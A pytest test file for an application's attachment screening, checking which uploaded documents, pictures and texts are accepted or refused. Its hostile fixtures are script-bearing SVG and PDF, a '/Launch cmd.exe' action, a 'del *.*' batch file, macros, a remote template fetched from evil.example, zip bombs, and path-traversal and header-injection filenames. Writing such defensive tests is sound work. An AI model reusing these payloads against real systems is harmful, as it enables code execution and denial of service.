"""Attached files: what may be attached is known by its content, and nothing that can run, fetch or swell comes in."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask, request
from PIL import Image, features
from werkzeug.exceptions import RequestEntityTooLarge

from chain.base import file_kinds, file_office, file_pdf, file_picture, files
from chain.base.errors import RuleBroken

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # what a file is, no database knows

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


@pytest.fixture(autouse=True)
def _context(app: Flask) -> object:
    with app.test_request_context():
        yield


def packed(parts: dict[str, bytes | str], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def docx(**more: bytes | str) -> bytes:
    return packed(
        {"[Content_Types].xml": TYPES, "word/document.xml": "<w:document/>", **{k.replace("__", "/"): v for k, v in more.items()}}
    )


def odt(**more: bytes | str) -> bytes:
    kind = "application/vnd.oasis.opendocument.text"
    return packed({"mimetype": kind, "META-INF/manifest.xml": "<manifest/>", "content.xml": "<office/>", **more})


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (place, one) for place, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


def stream(head: bytes, content: bytes) -> bytes:
    return b"<< " + head + b" /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def picture(form: str, **more: object) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (40, 20), "teal").save(made, form, **more)  # type: ignore[arg-type]
    return made.getvalue()


def with_a_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Kameran"
    exif[0x0112] = 6  # turned a quarter
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif.tobytes())


FINE: dict[str, Callable[[], bytes]] = {
    "plan.pdf": lambda: pdf(b"<< /Type /Catalog >>", stream(b"/Filter /FlateDecode", zlib.compress(b"BT (Hej) Tj ET"))),
    "plan.docx": docx,
    "tal.xlsx": lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>"}),
    "bild.pptx": lambda: packed({"[Content_Types].xml": TYPES, "ppt/presentation.xml": "<p/>"}),
    "text.odt": odt,
    "foto.png": lambda: picture("PNG"),
    "foto.JPG": lambda: picture("JPEG"),
    "foto.webp": lambda: picture("WEBP"),
    "samtal.txt": lambda: "Eleven säger: jag förstår nu.\r\n".encode(),
    "windows.txt": lambda: "räksmörgås".encode("cp1252"),
}


@pytest.mark.parametrize("name", FINE)
def test_documents_pictures_and_plain_text_are_taken(name: str) -> None:
    media, content = file_kinds.harmless(name, FINE[name]())
    assert media in {kind.media for kind in file_kinds.KINDS.values()} and content
    assert file_kinds.harmless(name, content) == (media, content) or media.startswith("image/")  # drawn anew each time


PREDICTED = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"


def hidden(content: bytes = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>", head: bytes = b"/Filter /FlateDecode") -> bytes:
    return pdf(stream(b"/Type /ObjStm /N 1 /First 4 " + head, zlib.compress(content)))


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "script in svg": ("bild.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "SVG"),
    "svg called png": ("bild.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>', "SVG"),
    "html called text": ("text.txt", lambda: b"\xef\xbb\xbf  <!DOCTYPE html><script>alert(1)</script>", "webbsida"),
    "html in utf-16": ("text.txt", lambda: "<html><script>".encode("utf-16"), "webbsida"),
    "a program": ("plan.pdf", lambda: b"MZ\x90\x00" + bytes(200), "ingen fil som kan bifogas"),
    "a script by its name": ("kör.bat", lambda: b"del *.*", "heter något annat"),
    "no end to the name": ("plan", lambda: pdf(b"<< >>"), "heter något annat"),
    "wrong extension": ("plan.docx", lambda: picture("PNG"), "heter något annat"),
    "two extensions": ("bild.png.exe", lambda: picture("PNG"), "heter något annat"),
    "any archive": ("plan.docx", lambda: packed({"hej.txt": "hej"}), "ingen fil som kan bifogas"),
    "a jar": ("plan.xlsx", lambda: packed({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe"}), "ingen fil som kan bifogas"),
    "empty": ("plan.pdf", bytes, "tom"),
    "old Word": ("plan.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "äldre format"),
    "macros": ("plan.docx", lambda: docx(word__vbaProject="x"), "makron"),
    "macros by their type": (
        "plan.docx",
        lambda: packed({"[Content_Types].xml": "<x>ms-word.document.macroEnabled.main+xml</x>", "word/document.xml": "d"}),
        "makron",
    ),
    "a sheet of macros": ("plan.docx", lambda: docx(**{"xl__macrosheets__sheet1.xml": "x"}), "makron"),
    "Basic in OpenDocument": ("plan.odt", lambda: odt(**{"Basic/Standard/Module1.xml": "x"}), "makron"),
    "a program in a document": ("plan.docx", lambda: docx(word__media__image1="MZ\x90 program"), "makron eller program"),
    "an object in a document": ("plan.docx", lambda: docx(**{"word__embeddings__oleObject1.bin": "x"}), "inbäddade"),
    "a template from elsewhere": (
        "plan.docx",
        lambda: docx(
            **{
                "word___rels__settings.xml.rels": '<Relationships><Relationship Id="1" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        "hämtar innehåll",
    ),
    "a password": ("plan.docx", lambda: locked(docx()), "lösenord"),
    "a zip bomb": ("plan.docx", lambda: docx(word__bomb=bytes(60_000_000)), "packas upp"),
    "a larger zip bomb": ("plan.docx", lambda: docx(word__bomb=bytes(101_000_000)), "packas upp"),
    "one that lies of its size": ("plan.docx", lambda: lying(docx(word__bomb=bytes(60_000_000))), "packa"),
    "bombs within": (
        "plan.docx",
        lambda: docx(**{f"word__embeddings__{n}.xlsx": packed({"xl/a.xml": bytes(30_000_000)}) for n in range(4)}),
        "packas upp",
    ),
    "archives in archives": (
        "plan.docx",
        lambda: docx(word__a=packed({"a": packed({"b": packed({"c": "d"})})})),
        "packas upp",
    ),
    "very many parts": ("plan.docx", lambda: docx(**{f"word__{n}": "x" for n in range(2001)}), "packas upp"),
    "a cut archive": ("plan.docx", lambda: docx()[:60], "skadad"),
    "script in PDF": ("plan.pdf", lambda: pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "program"),
    "script by an escaped name": ("plan.pdf", lambda: pdf(b"<< /S /J#61vaScri#70t /JS (1) >>"), "program"),
    "script in packed objects": ("plan.pdf", hidden, "program"),
    "objects packed twice": ("plan.pdf", lambda: hidden(head=b"/Filter [/ASCIIHexDecode /FlateDecode]"), "granska"),
    "objects behind a predictor": ("plan.pdf", lambda: hidden(head=PREDICTED), "granska"),
    "objects called a picture": ("plan.pdf", lambda: hidden(head=b"/Subtype /Image /Filter /FlateDecode"), "program"),
    "objects behind a string": ("plan.pdf", lambda: behind(b"/X (9 0 obj <<) /Filter /ASCIIHexDecode"), "granska"),
    "objects behind a broken string": ("plan.pdf", lambda: behind(b"/X (>>stream\n) /Filter /ASCIIHexDecode"), "granska"),
    "objects behind a comment": ("plan.pdf", lambda: behind(b"% 9 0 obj <<\n/Filter /ASCIIHexDecode"), "granska"),
    "objects behind much": ("plan.pdf", lambda: behind(b"/X (" + b" " * 30_000 + b") /Filter /ASCIIHexDecode"), "granska"),
    "a stream after a comment": ("plan.pdf", lambda: behind(b"/Filter /ASCIIHexDecode", b" % x\n"), "granska"),
    "very many streams": ("plan.pdf", lambda: pdf(b"<< /A 1 >>\nstream\nx\nendstream\n" * 60_000), "granska"),
    "starts a program": ("plan.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>"), "program"),
    "files within": ("plan.pdf", lambda: pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), "filer i filen"),
    "a locked PDF": ("plan.pdf", lambda: pdf(b"<< >>") + b"trailer << /Encrypt 4 0 R >>", "lösenord"),
    "not whole": ("plan.pdf", lambda: b"%PDF-1.7\n1 0 obj", "skadad"),
    "a broken picture": ("foto.png", lambda: picture("PNG")[:40], "skadad"),
    "a picture too large to draw": ("foto.png", lambda: enormous(), "bildpunkter"),
}  # fmt: skip


def behind(head: bytes, after: bytes = b"\n") -> bytes:
    """A script in packed objects whose dictionary is made to look like another."""
    script = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>".hex().encode()
    return pdf(b"<< /Type /ObjStm /N 1 /First 4 " + head + b" >>" + after + b"stream\n" + script + b">\nendstream")


def locked(data: bytes) -> bytes:
    """Every part said to be encrypted, in both of the archive's lists."""
    made = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + offset] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


def lying(data: bytes) -> bytes:
    """The list says that the large part is small."""
    made = bytearray(data)
    place = made.rfind(b"PK\x01\x02")
    made[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(made)


def enormous() -> bytes:
    """The head of a picture of ten thousand by ten thousand, in a few bytes."""
    made = bytearray(picture("PNG"))
    made[16:24] = struct.pack(">II", 10_000, 10_000)
    made[29:33] = struct.pack(">I", zlib.crc32(bytes(made[12:29])))
    return bytes(made)


@pytest.mark.parametrize("what", HOSTILE)
def test_what_could_do_harm_is_refused_with_a_sentence(what: str) -> None:
    name, made, sentence = HOSTILE[what]
    with pytest.raises(RuleBroken) as refused:
        file_kinds.harmless(name, made())
    assert sentence in refused.value.sentence and name in refused.value.sentence


def test_a_picture_keeps_its_pixels_and_nothing_of_where_it_was_taken() -> None:
    before = with_a_place()
    assert b"Kameran" in before
    _media, after = file_kinds.harmless("foto.jpg", before)
    with Image.open(io.BytesIO(after)) as found:
        assert found.size == (20, 40) and not found.getexif()  # turned as it was meant
    assert b"Kameran" not in after


def test_what_hangs_behind_a_picture_goes_away() -> None:
    _media, after = file_kinds.harmless("foto.png", picture("PNG") + packed({"a.exe": "MZ"}))
    assert b"PK\x03\x04" not in after


@pytest.mark.parametrize("mode", ["P", "RGBA", "LA", "1", "I;16"])
def test_pictures_of_every_kind_are_drawn_anew(mode: str) -> None:
    made = io.BytesIO()
    Image.new(mode, (3, 3)).save(made, "PNG")
    assert file_picture.harmless("a.png", made.getvalue()).startswith(b"\x89PNG")


def test_this_installation_draws_all_the_pictures_that_it_takes() -> None:
    assert features.check("webp") and features.check("jpg") and features.check("zlib")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\pia\\plan.pdf", "plan.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "a-b Set-Cookie- x.pdf"),
        ("gnp.\u202eexe.pdf", "gnp. exe.pdf"),
        ("...", "fil"),
        ("å" * 300 + ".pdf", "å" * (files.LONGEST_NAME - 4) + ".pdf"),
    ],
)
def test_a_name_is_no_path_and_no_trick(given: str, kept: str) -> None:
    assert files.clean(given) == kept


def test_a_file_is_handed_out_to_be_saved_and_not_to_be_opened_here() -> None:
    file = files.File(name="räkning.pdf", kind="application/pdf", content=b"%PDF-")
    answer = files.answer(file)
    assert answer.headers["Content-Disposition"].startswith("attachment; filename")
    assert "sandbox" in answer.headers["Content-Security-Policy"] and answer.content_type == "application/pdf"


def test_too_large_and_too_many_say_so() -> None:
    with pytest.raises(RuleBroken, match="10 MB"):
        files.checked("stor.pdf", bytes(files.LARGEST + 1))
    with pytest.raises(RuleBroken, match="högst 5 filer"):
        files.refuse_many(4, 2)
    files.refuse_many(4, 1)


def test_the_bounds_are_looked_at_while_unpacking() -> None:
    assert file_office.LARGEST_UNPACKED >= 100_000_000 and file_pdf.LARGEST_UNPACKED >= 100_000_000


def sent(size: int) -> dict[str, Any]:
    """A form with a text and a file of so many bytes, as a browser sends it."""
    parts = (b'name="text"\r\n\r\nHej', b'name="file"; filename="stor.csv"\r\n\r\n' + bytes(size))
    body = b"".join(b"--x\r\nContent-Disposition: form-data; " + one + b"\r\n" for one in parts) + b"--x--\r\n"
    return {"method": "POST", "data": body, "content_type": "multipart/form-data; boundary=x"}


@pytest.mark.parametrize("roomy", [True, False])
def test_where_files_are_expected_they_are_read_without_a_disk(app: Flask, roomy: bool) -> None:
    with app.test_request_context("/", **sent(2_000_000)):  # without room it is put in a temporary file
        if roomy:
            files.room()
        with request.files["file"].stream as given:
            assert request.form["text"] == "Hej" and len(given.read()) == 2_000_000
            assert isinstance(given, io.BytesIO) is roomy


def test_more_than_there_is_room_for_is_not_read_at_all(app: Flask) -> None:
    with app.test_request_context("/", **sent(files.AROUND + 2_000)), pytest.raises(RequestEntityTooLarge):
        files.room(1_000)
        assert not request.files
